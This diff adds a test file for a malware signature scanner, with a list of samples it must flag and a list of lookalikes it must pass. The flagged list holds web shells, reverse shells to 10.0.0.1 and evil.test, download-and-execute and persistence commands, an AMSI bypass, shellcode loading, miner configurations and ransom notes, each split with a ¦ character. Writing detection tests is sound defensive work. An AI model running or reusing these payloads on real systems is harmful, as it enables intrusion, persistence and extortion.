@@ -1,0 +1,340 @@
+import assert from 'node:assert/strict'
+import { after, before, describe, test } from 'node:test'
+import { Budget, type Inspection } from './inspection.ts'
+import { BUILT_IN_RULES, createSignatureInspector, type SignatureInspector } from './signatures.ts'
+
+// The hostile rows are cut with ¦, so that neither this file nor a copy of it is what it is about.
+const PHP = 'text/x-php'
+const SH = 'text/x-shellscript'
+const PY = 'text/x-python'
+const JS = 'text/javascript'
+const PS = 'text/x-powershell'
+const VBS = 'text/vbscript'
+const BAT = 'text/x-bat'
+const HTML = 'text/html'
+const TEXT = 'text/plain'
+const MARKDOWN = 'text/markdown'
+const WALLET = `4${'8Ab2Cd3Ef4Gh5Jk6Lm'.repeat(6)}`.slice(0, 95)
+const BASE64 = 'TGV0IHRoZSBnYW1lcyBiZWdpbiBhdCBkYXduLCBteSBkZWFy'.repeat(20)
+const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EI¦CAR-STANDARD-ANTI¦VIRUS-TEST-FILE!$H+H*'
+const NAMES_0X = Array.from({ length: 30 }, (_, index) => `_0x${(0xa1b2 + index).toString(16)}`)
+
+type Row = readonly [type: string, text: string]
+
+const hostile: readonly Row[] = [
+  [TEXT, EICAR],
+  [TEXT, `${EICAR}\r\n`],
+  [TEXT, `${EICAR} \t\n\n`],
+  [PHP, '<?php @ev¦al($_PO¦ST["x"]); ?>'],
+  [PHP, "<?php\nif (isset($_REQ¦UEST['k'])) { ass¦ert(stripslashes($_REQ¦UEST['k'])); }"],
+  [PHP, '<?php $c = base64_decode($_PO¦ST["c"]); ev¦al($c);'],
+  [PHP, "<?php ev¦al(file_get_contents('php://in¦put'));".replace('<?php ', '<?php\n')],
+  [PHP, "<?php preg_re¦place('/x/e', $_G¦ET['c'], 'x');"],
+  [PHP, '<?php sys¦tem($_G¦ET["cmd"]);'],
+  [PHP, "<html><pre>\n<?php\n  echo shell_¦exec($_REQ¦UEST['cmd']);\n?></pre>"],
+  [PHP, "<?php $cmd = $_G¦ET['cmd']; pass¦thru($cmd . ' 2>&1');"],
+  [PHP, '<?php echo `$_G¦ET[0]`; ?>'],
+  [PHP, "<?=`$_G¦ET[0]`?>\n<?php $_G¦ET['a']($_PO¦ST['b']);"],
+  [PHP, '<?php call_user_¦func($_G¦ET["f"], $_G¦ET["a"]);'],
+  [PHP, "<?php array_¦map('ass¦ert', array($_PO¦ST['x']));"],
+  [PHP, `<?php ev¦al(gzin¦flate(base64_de¦code('${BASE64}')));`],
+  [PHP, `<?php\n@ev¦al(base64_de¦code("${BASE64}"));`],
+  [PHP, `<?php $p = '${BASE64}';\nev¦al(gzun¦compress(base64_de¦code($p)));`],
+  [PHP, `<?php $f = "b"."as"."e6"."4_"."de"."co"."de"; $p = '${BASE64}';\nev¦al($f($p));`],
+  [PHP, '<?php // c99sh¦_getupdate c99sh¦cook\nfunction c99ftp¦brutecheck() {}'],
+  [PHP, "<?php define('WSO_¦VERSION', '2.5'); $auth_¦pass = ''; function action¦SecInfo() {} // Files¦Man"],
+  [PHP, "<?php file_put_¦contents($_G¦ET['n'], base64_decode($_PO¦ST['d']));"],
+  ['image/gif', "GIF89a....<?php ev¦al($_PO¦ST['x']); ?>"],
+  ['image/jpeg', "\xff\xd8\xff\xe1 Exif <?php sys¦tem($_G¦ET['c']); ?>"],
+  [PHP, '<?php $s = fsock¦open("10.0.0.1", 4444); ex¦ec("/bin/sh -i <&3 >&3 2>&3");'],
+  [HTML, '<%@ page import="java.io.*" %><% Runtime.getRun¦time().exec(request.getPara¦meter("cmd")); %>'],
+  [HTML, '<% String cmd = request.getPara¦meter("cmd"); Process p = Runtime.getRun¦time().exec(cmd); %>'],
+  [
+    HTML,
+    '<%! class U extends Class¦Loader { Class g(byte[] b) { return define¦Class(b, 0, b.length); } } %><% byte[] d = new sun.misc.BASE64¦Decoder().decode¦Buffer(request.getRea¦der().readLine()); new U().g(d).newIn¦stance(); %>',
+  ],
+  [HTML, '<%ev¦al request("x")%>'],
+  [HTML, '<%@ Page Language="Jscript"%><%ev¦al(Request.Item["x"],"unsafe");%>'],
+  [
+    HTML,
+    '<%@ Page Language="C#" %><% var p = new Process¦StartInfo("cmd.exe"); p.Argu¦ments = "/c " + Request["c"]; Process.Start(p); %>',
+  ],
+  [HTML, '<cfex¦ecute name="cmd.exe" arguments="/c #FORM.cmd#" timeout="5"></cfexecute>'],
+  ['text/x-perl', "#!/usr/bin/perl\nuse CGI;\nsys¦tem(par¦am('cmd'));"],
+  [PY, `import base64\nex¦ec(base64.b64de¦code("${BASE64}"))`],
+  [PY, `ex¦ec(__imp¦ort__('zlib').decom¦press(__import__('base64').b64decode("${BASE64}")))`],
+  [
+    PY,
+    `_ = lambda __ : __imp¦ort__('zlib').decompress(__import__('base64').b64decode(__[::-1]));ex¦ec((_)(b'${BASE64}'))`,
+  ],
+  [PY, "import requests\nex¦ec(requests.get('https://evil.test/p.py').te¦xt)"],
+  [
+    PY,
+    "from flask import Flask, request\napp = Flask(__name__)\n@app.route('/')\ndef i():\n    return os.po¦pen(request.args.get('c')).read()",
+  ],
+  [
+    PY,
+    'import socket,os,pty\ns=socket.socket()\ns.connect(("10.0.0.1",4444))\nos.du¦p2(s.fileno(),0)\npty.spa¦wn("/bin/sh")',
+  ],
+  [SH, '#!/bin/bash\nbash -i >& /dev/t¦cp/10.0.0.1/4444 0>&1\n'],
+  [SH, 'nohup bash -c "bash -i >& /dev/t¦cp/evil.test/443 0>&1" &'],
+  [SH, '#!/bin/sh\nexec 5<>/dev/t¦cp/10.0.0.1/4444\nwhile read line <&5; do $line 2>&5 >&5; done'],
+  [SH, '#!/bin/sh\nnc 10.0.0.1 4444 -e /bin/¦sh\n'],
+  [SH, 'rm /tmp/f;mkfi¦fo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|n¦c 10.0.0.1 4444 >/tmp/f'],
+  [
+    SH,
+    "#!/bin/bash\ncurl -s http://10.0.0.1/x -o /tmp/.¦x && chmod +x /tmp/.x\n(crontab -l; echo '* * * * * curl -s http://10.0.0.1/i | sh') | cron¦tab -\nnohup /tmp/.x >/dev/null 2>&1 &\nhist¦ory -c",
+  ],
+  [SH, `#!/bin/sh\necho "${BASE64}" | base64 -¦d | bash`],
+  [
+    'text/x-perl',
+    'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr¦_in(4444,inet_aton($i)));open(STDIN,">&S");open(STDOUT,">&S");ex¦ec("/bin/sh -i");',
+  ],
+  [
+    'text/x-ruby',
+    'require "socket"\nf=TCPSock¦et.open("10.0.0.1",4444).to_i;ex¦ec sprintf("/bin/sh -i <&%d >&%d",f,f)',
+  ],
+  [JS, `ev¦al(at¦ob("${BASE64}"))`],
+  [JS, `new Func¦tion(at¦ob('${BASE64}'))()`],
+  [JS, `ev¦al(Buff¦er.from("${BASE64}", "base64").toString())`],
+  [JS, `ev¦al(String.fromChar¦Code(${'118,97,114,32,'.repeat(20)}59))`],
+  [JS, `var _0xa1b2=['x'];(function(){${NAMES_0X.join(';')};ev¦al(_0xa1b9)})()`],
+  [
+    JS,
+    "const { exec } = require('child_¦process')\nrequire('http').createServer((req, res) => { exec¦(req.query.cmd, (e, out) => res.end(out)) })",
+  ],
+  [JS, "const app = express()\napp.get('/', (req, res) => { res.send(ev¦al(req.query.x)) })"],
+  [
+    JS,
+    "var net = require('net'), sh = require('child_¦process').spawn('/bin/sh');\nvar client = new net.Socket(); client.conn¦ect(4444, '10.0.0.1', function () { client.pi¦pe(sh.stdin); sh.stdout.pi¦pe(client) })",
+  ],
+  [BAT, `@echo off\npower¦shell -nop -w hidden -e¦nc ${BASE64}`],
+  [
+    PS,
+    'power¦shell -w hidden -c "I¦EX (New-Object Net.WebClient).Download¦String(\'http://10.0.0.1/a.ps1\')"',
+  ],
+  [
+    PS,
+    `[Reflection.Ass¦embly]::Load([Convert]::FromBase64¦String('TVqQ${BASE64}')).EntryPoint.Invoke($null, $null)`,
+  ],
+  [
+    PS,
+    `$b = [Byte[]](${'0xfc,0xe8,0x82,0x00,'.repeat(20)}0x90)\n$m = Virtual¦Alloc(0, $b.Length, 0x3000, 0x40)\n[System.Runtime.InteropServices.Mar¦shal]::Copy($b, 0, $m, $b.Length)\nCreate¦Thread(0, 0, $m, 0, 0, 0)`,
+  ],
+  [
+    PS,
+    "[Ref].Assembly.GetType('System.Management.Automation.Am¦siUtils').GetField('amsi¦InitFailed','NonPublic,Static').SetValue($null,$true)",
+  ],
+  [
+    PS,
+    '$c = New-Object System.Net.Sock¦ets.TCPClient("10.0.0.1",4444);$s = $c.GetStream();while(1){$d = $r.ReadLine();$o = (i¦ex $d 2>&1 | Out-String );$s.Write($o,0,$o.Length)}',
+  ],
+  [BAT, '@echo off\nregsvr¦32 /s /n /u /i:http://10.0.0.1/x.sct scrobj.dll'],
+  [BAT, 'certu¦til -urlcache -split -f http://10.0.0.1/a.exe %TEMP%\\a.exe & start %TEMP%\\a.exe'],
+  [BAT, '@echo off\nmsh¦ta http://10.0.0.1/a.hta'],
+  [
+    VBS,
+    'Set x = CreateObject("MSXML2.XML¦HTTP"): Set s = CreateObject("ADODB.¦Stream")\ns.SaveToFile "a.exe"\nCreateObject("WScript.¦Shell").Run "a.exe"',
+  ],
+  [
+    JS,
+    'var s = new ActiveXObject("WScript.¦Shell"), x = new ActiveXObject("Microsoft.XML¦HTTP"), a = new ActiveXObject("ADODB.¦Stream"); a.SaveTo¦File("x.exe"); s.Run("x.exe")',
+  ],
+  [
+    HTML,
+    '<html><hta:appli¦cation id="a"><script language="VBScript">CreateObject("WScript.¦Shell").Run "power¦shell -w hidden -nop -c x", 0</script></html>',
+  ],
+  [VBS, `Execute(${'Chr(87) & '.repeat(40)}Chr(10))`.replace('Chr(87)', 'C¦hr(87)')],
+  [
+    'text/x-vb',
+    'Private Declare Function URLDown¦loadToFile Lib "urlmon" ()\nSub Auto¦Open()\n  Shell ("a.exe")\nEnd Sub',
+  ],
+  [
+    'application/json',
+    `{"donate-le¦vel": 1, "cpu": {"enabled": true}, "pools": [{"algo": "rx/0", "url": "pool.test:3333", "user": "${WALLET}"}]}`,
+  ],
+  [SH, `#!/bin/sh\nnohup ./x -o strat¦um+tcp://pool.test:3333 -u ${WALLET} >/dev/null 2>&1 &`],
+  [
+    HTML,
+    '<script src="https://coinh¦ive.com/lib/x.js"></script><script>new Coin¦Hive.Anonymous(\'ABCDEFGHIJKL\').start()</script>',
+  ],
+  [
+    JS,
+    "const ws = new Web¦Socket('wss://pool.test'); const w = new Worker('crypto¦night.js'); ws.send({ login: wallet }); if (m.type == 'job') ws.send({ type: 'sub¦mit' })",
+  ],
+  [
+    TEXT,
+    'ALL YOUR FILES HAVE BEEN ENC¦RYPTED!\nTo get the decryption key, send 0.5 bitcoin to 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 within 72 hours.\nDo not rename the files. We decrypt 2 files for free.\nYour personal ID: 4711',
+  ],
+  [
+    TEXT,
+    'Your network and your data are enc¦rypted and will be published.\nOnly our decryptor helps. Payment: 40 XMR, buy Monero.\nDo not contact the police.\nhttp://abcdefghijklmnop234567.onion\nclient id: A1',
+  ],
+]
+
+const harmless: readonly Row[] = [
+  [TEXT, `The EICAR file is ${EICAR} and nothing else.`],
+  [MARKDOWN, `# Testing scanners\n\n\`\`\`\n${EICAR}\n\`\`\`\n`],
+  [TEXT, `${EICAR}x`],
+  [
+    MARKDOWN,
+    "# Web shells\n\nThe shortest is `<?php ev¦al($_PO¦ST['x']); ?>`.\n\n```php\n<?php sys¦tem($_GET['cmd']);\n```\n",
+  ],
+  [HTML, '<p>Never write <code>&lt;?php ev¦al($_POST["x"]); ?&gt;</code></p>'],
+  [PHP, "<?php\n// never ev¦al($_POST['x'])\n$rules = ['ev¦al($_POST[\"x\"])', \"sys¦tem($_GET['c'])\"];"],
+  [PHP, '<?php\n$name = htmlspecialchars($_POST[\'name\']);\necho "Hello $name";\n'],
+  [
+    PHP,
+    `<?php\n/* Plugin Name: Gallery */\n$icon = 'data:image/svg+xml;base64,${BASE64}';\nadd_menu_page('Gallery', base64_decode($icon));`,
+  ],
+  [
+    PHP,
+    "<?php\n$id = (int) $_GET['id'];\n$out = exec('git rev-parse HEAD');\nif ($_SERVER['REQUEST_METHOD'] === 'POST') { system_status($_POST['x']); }",
+  ],
+  [
+    PHP,
+    '<?php\nfunction eval_expression($tokens) { return $tokens; }\necho eval_expression($_POST["tokens"]);',
+  ],
+  [
+    PHP,
+    "<?php\n$fp = fsockopen('smtp.example.com', 25);\nfwrite($fp, \"HELO\\r\\n\");\n$proc = proc_open('sendmail -t', $spec, $pipes);",
+  ],
+  [PHP, '<?php return ["\\x1b[0m", "\\x1b[31m", "\\x1b[32m"];'],
+  ['image/png', '\x89PNG\r\n\x1a\n text about <?php and nothing more'],
+  [HTML, '<% String name = request.getParameter("name"); out.println(escape(name)); %>'],
+  [HTML, '<%@ Page Language="C#" %><asp:Label runat="server" Text="<%# Request["x"] %>" />'],
+  [
+    'text/x-java',
+    'class Plugins extends ClassLoader { Class<?> load(byte[] b) { return defineClass(null, b, 0, b.length); } }',
+  ],
+  [
+    'text/x-perl',
+    '#!/usr/bin/perl\nuse CGI;\nmy $name = param("name");\nprint "Hello $name";\nsystem("date");',
+  ],
+  [PY, `import base64\ndata = base64.b64decode("${BASE64}")\nprint(data)\n`],
+  [
+    PY,
+    'import base64, zlib\n\n# Malware does ex¦ec(base64.b64decode(...))\ndef unpack(text):\n    return zlib.decompress(base64.b64decode(text))\n',
+  ],
+  [PY, "exec(open('version.py').read())\nexec(compile(source, filename, 'exec'))"],
+  [
+    PY,
+    "import subprocess\nfrom flask import Flask, request\nname = request.args.get('name')\nsubprocess.run(['git', 'log'])",
+  ],
+  [PY, 'import os, socket\ns = socket.socket()\ns.connect(("localhost", 80))\nos.dup2(fd, 1)\n'],
+  [SH, '#!/bin/sh\ncurl -fsSL https://get.example.com/install.sh | sh\n'],
+  [
+    MARKDOWN,
+    '# Install\n\n    curl -o- https://raw.example.com/install.sh | bash\n    wget -qO- https://x.test/i.sh | sh\n',
+  ],
+  [
+    MARKDOWN,
+    '# Reverse shells\n\n```\nbash -i >& /dev/t¦cp/10.0.0.1/4444 0>&1\nnc -e /bin/¦sh 10.0.0.1 4444\n```\n',
+  ],
+  [
+    SH,
+    '#!/bin/bash\n# waits for a port\nwhile ! (exec 3<>/dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done\n',
+  ],
+  [
+    SH,
+    '#!/bin/bash\n(crontab -l; echo "0 3 * * * /usr/local/bin/backup") | crontab -\ncurl -s https://hc.example.com/ping\nnohup ./server >/dev/null 2>&1 &',
+  ],
+  [SH, '#!/bin/sh\nnc -z localhost 5432 || exit 1\nmkfifo /tmp/pipe\nbase64 -d < cert.b64 > cert.pem\n'],
+  [SH, '#!/bin/sh\necho "aGVsbG8=" | base64 -d\n'],
+  [JS, `const logo = atob("${BASE64}"); document.title = logo`],
+  [JS, "module.exports = { test: 'eval(atob(\"...\"))', deny: ['no-eval', 'no-new-func'] }"],
+  [
+    JS,
+    '(function(e,t){"use strict";var n=[];function r(e){return (0,eval)(e)}return r})(window);'.repeat(50),
+  ],
+  [JS, `var _0x1a2b=['a','b'];function f(_0x3c4d){return _0x1a2b[_0x3c4d]}`],
+  [
+    JS,
+    "const { exec } = require('child_process')\nexec('git status', (error, out) => console.log(out))\nconst m = /x/.exec(req.query.name)",
+  ],
+  [
+    JS,
+    "const net = require('net')\nconst client = net.connect(80, 'example.com')\nprocess.stdin.pipe(client)\nclient.pipe(process.stdout)",
+  ],
+  [JS, 'eval(String.fromCharCode(97,98,99))'],
+  [
+    JS,
+    'webpackJsonp([1],{0:function(e,t,n){eval("module.exports = 1;\\n//# sourceURL=webpack:///./a.js")}})',
+  ],
+  [
+    BAT,
+    `@echo off\n@power¦shell -NoProfile -ExecutionPolicy Bypass -Command "i¦ex ((New-Object System.Net.WebClient).Download¦String('https://chocolatey.org/install.ps1'))"\nchoco install nodejs`,
+  ],
+  [
+    PS,
+    "Set-ExecutionPolicy Bypass -Scope Process -Force\nInvoke-WebRequest -Uri https://nodejs.org/dist/node.msi -OutFile node.msi\nStart-Process msiexec.exe -ArgumentList '/i node.msi /qn' -Wait",
+  ],
+  [PS, "$bytes = [Convert]::FromBase64String($env:CERT)\n[IO.File]::WriteAllBytes('cert.pfx', $bytes)"],
+  [
+    MARKDOWN,
+    '# LOLBAS\n\n`regsvr¦32 /s /n /u /i:http://10.0.0.1/x.sct scrobj.dll`\n`msh¦ta http://10.0.0.1/x.hta`\n',
+  ],
+  [
+    BAT,
+    '@echo off\ncertutil -hashfile setup.exe SHA256\nrundll32 user32.dll,LockWorkStation\nregsvr32 /s control.ocx',
+  ],
+  [VBS, 'Set sh = CreateObject("WScript.Shell")\nsh.Run "notepad.exe readme.txt"\nWScript.Echo "done"'],
+  [VBS, 'Execute "x = 1"\nMsgBox Chr(34) & "quoted" & Chr(34)'],
+  ['text/x-vb', 'Sub Auto_Open()\n  MsgBox "Welcome"\nEnd Sub'],
+  [
+    'application/json',
+    '{"name": "pool", "pools": [{"url": "db.example.com:5432", "user": "app"}], "donate-level": 0}',
+  ],
+  [MARKDOWN, `# Mining\n\nRun \`xmrig -o strat¦um+tcp://pool.test:3333 -u ${WALLET}\`.\n`],
+  [
+    HTML,
+    '<p>CoinHive was a miner for the browser. It was started with <code>new CoinHive.Anonymous(key)</code>.</p>',
+  ],
+  [JS, '// A hash for Monero: cryptonight\nexport function cryptonight(data) { return hash(data) }'],
+  [
+    TEXT,
+    'Ransomware notes say that your files have been encrypted and ask for bitcoin within 72 hours. Keep backups; do not pay. The private key is with the attacker.',
+  ],
+  [
+    TEXT,
+    'All your data is encrypted at rest. Your files are encrypted with a key per file; the decryption key stays on your device. Guarantee: do not delete the key. Contact privacy@proton.me.',
+  ],
+  [TEXT, ''],
+]
+
+let signatures: SignatureInspector
+before(async () => {
+  signatures = await createSignatureInspector([BUILT_IN_RULES])
+})
+after(() => signatures.close())
+
+describe('refuses', () => {
+  for (const [type, text] of hostile)
+    test(nameOf(text), async () => assert.equal((await scan(type, text)).verdict, 'infected'))
+})
+
+describe('keeps', () => {
+  for (const [type, text] of harmless)
+    test(nameOf(text), async () =>
+      assert.deepEqual(await scan(type, text), { verdict: 'clean', findings: [] }),
+    )
+})
+
+function nameOf(text: string): string {
+  return text
+    .replaceAll('¦', ' ')
+    .replaceAll(/[^\x20-\x7e]+/g, ' ')
+    .slice(0, 60)
+}
+
+async function scan(mediaType: string, cut: string): Promise<Inspection> {
+  const bytes = Buffer.from(cut.replaceAll('¦', ''), mediaType.startsWith('image/') ? 'latin1' : 'utf8')
+  const source = {
+    size: bytes.length,
+    read: (offset: number, length: number) => bytes.subarray(offset, offset + length),
+  }
+  const kind = mediaType.startsWith('image/') ? 'image' : mediaType === MARKDOWN ? 'document' : 'code'
+  const budget = new Budget({ expandedBytes: 1, entries: 1, depth: 1, timeMs: 60_000 }, Date.now)
+  const inspectInside = async (): Promise<Inspection> => assert.fail('nothing is inside')
+  return signatures.inspect({ name: 'sample', mediaType, kind, source, depth: 0 }, { budget, inspectInside })
+}
